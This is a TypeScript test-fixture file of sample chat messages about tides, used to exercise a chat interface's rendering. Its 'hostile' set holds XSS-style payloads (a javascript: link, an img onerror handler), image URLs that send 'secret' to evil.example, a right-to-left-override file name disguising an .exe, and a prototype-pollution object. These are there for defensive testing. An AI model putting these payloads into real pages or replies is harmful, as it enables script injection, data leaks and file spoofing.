// Fixed data for the messages section. Large samples are created on demand.
import type { UIMessage } from "ai";
import type { ToolPart } from "@/components/chat/tools/tool-card";

/** Messages `from` to `to` of a fixed conversation. */
export function conversation(from: number, to: number): UIMessage[] {
  return Array.from({ length: to - from }, (_, offset) => {
    const at = from + offset;
    const turn = Math.floor(at / 2) + 1;
    return {
      id: `long-${at}`,
      role: at % 2 === 0 ? ("user" as const) : ("assistant" as const),
      parts: [
        {
          type: "text" as const,
          text:
            at % 2 === 0
              ? `Question ${turn}: how high is the tide?`
              : `Answer ${turn}. About **three metres** today${", and a little more tomorrow when the Moon is full".repeat(turn % 4)}.`,
        },
      ],
    };
  });
}

/** New messages that arrive while the reader is elsewhere. */
export function news(count: number): UIMessage[] {
  return Array.from({ length: count }, (_, at) => ({
    id: `news-${at}`,
    role: "assistant",
    parts: [{ type: "text", text: `One more thing, number ${at + 1}.` }],
  }));
}

export const code = `\`\`\`ts
/** The difference of two pulls, which is why it is cubed. */
export function rangeAt(station: Station, moon: Phase): Metres {
  const pull = (2 * G * moon.mass) / moon.distance ** 3;
  return station.shape * pull; // about \${"3 m"}
}
\`\`\`

\`\`\`python
for tide in tides[:7]:
    print(f"{tide.at:%H:%M} {tide.height} m")  # one week
\`\`\`

\`\`\`diff
- const range = 3;
+ const range = rangeAt(station, moon);
\`\`\`

\`\`\`
A block without a language, and a line that is much too long to be read without scrolling or wrapping it somewhere.
\`\`\``;

export const formulas = `The tide-raising pull falls with the cube of the distance:

$$
a = \\frac{2 G M r}{d^3}
$$

so at twice the distance \\(d\\) it is $$\\tfrac{1}{8}$$ of it. An estimate for three places:

\`\`\`bars
Fundy:11.7
Saint-Malo:10.1
Oslo:0.3
\`\`\``;

// A wave, 160 by 100.
const picture =
  "iVBORw0KGgoAAAANSUhEUgAAAKAAAABkCAMAAAA2aMu9AAAABlBMVEXg7OgueGI7RXkkAAAAxklEQVR42u3VUQrDIBQFUWf/m+5noaRRn/dBSucs4DJiiGNIkiRJkiRJkiRJ+j28PXCXT/m6k1GuxPPqk9BTGFrku2xecQ96CkNzTGS/mnxf+Fo6+qL30tKXPHdPX3C3J29z+HZnY4o9ob/W+hL0FDINpKcvsztWl6CnkKXA6RRF58ceS1PUHb9KK0vQU8hW4NcpTh3tjukS9BRSCLyYIuPgzbzbIqn6ZPJwBhpooIEGGmiggQYaaKCBBhpooIEGGmjg/wa+AGERG2tv1f2BAAAAAElFTkSuQmCC";

export const images: UIMessage = {
  id: "images",
  role: "assistant",
  parts: [
    {
      type: "file",
      mediaType: "image/png",
      filename: "tide-gauge.png",
      url: `data:image/png;base64,${picture}`,
    },
    {
      type: "file",
      mediaType: "image/png",
      filename: "from-elsewhere.png",
      url: "https://evil.example/collect.png",
    },
    {
      type: "file",
      mediaType: "application/pdf",
      filename: "invoice\u202Efdp.exe",
      url: "https://example.com/invoice",
    },
  ],
};

export const preliminaryTool = {
  type: "tool-searchArchive",
  toolCallId: "p1",
  state: "output-available",
  preliminary: true,
  input: { query: "spring tides since 1950" },
  output: { searched: "31 of 75 years", found: 412 },
} satisfies ToolPart;

export const screenshotTool = {
  type: "tool-screenshot",
  toolCallId: "p2",
  state: "output-available",
  input: { page: "/tides" },
  output: { width: 16, content: [{ type: "image", mimeType: "image/png", data: picture }] },
} satisfies ToolPart;

const text = (words: string): UIMessage["parts"] => [{ type: "text", text: words }];

const hostile: Record<string, () => UIMessage["parts"]> = {
  "10,000-row table": () =>
    text(
      ["| Row | Value |", "| --- | --- |"]
        .concat(Array.from({ length: 10_000 }, (_, row) => `| ${row + 1} | x |`))
        .join("\n"),
    ),
  "200 KB line": () => text(`${"word ".repeat(20_000)}${"x".repeat(99_000)}`),
  "50,000 nested quotes": () => text(`${">".repeat(50_000)} deep`),
  "10,000 accents": () => text(`Before e${"\u0301".repeat(10_000)} after`),
  "Right to left": () => text("The file invoice\u202Efdp.exe\n\n```js\nif (isAdmin\u202E) {}\n```"),
  "2 MB of base64": () => [
    {
      type: "tool-camera",
      toolCallId: "c",
      state: "output-available",
      input: { lens: `data:image/png;base64,${"A".repeat(1_000_000)}` },
      output: "A".repeat(1_000_000),
    },
  ],
  "Prototype keys": () => {
    const data = JSON.parse('{"__proto__": {"polluted": true}, "constructor": 1}') as unknown;
    return [
      { type: "data-__proto__", data },
      { type: "data-constructor", data },
      { type: "tool-toString", toolCallId: "__proto__", state: "constructor", input: data },
    ] as unknown as UIMessage["parts"];
  },
  "A drawing that fails": () => text("```bars\nFundy:high\n```"),
  "Links and images": () =>
    text(
      // oxlint-disable-next-line no-script-url
      "[script](javascript:alert(1)) ![words](https://evil.example/collect?words=secret) ![slash](/\\evil.example/x.png)\n\n<img src=https://evil.example/y.png onerror=alert(1)>",
    ),
};

export const hostileNames = Object.keys(hostile);

export function outOfProportion(name: string): UIMessage {
  return { id: `hostile-${name}`, role: "assistant", parts: hostile[name]?.() ?? [] };
}
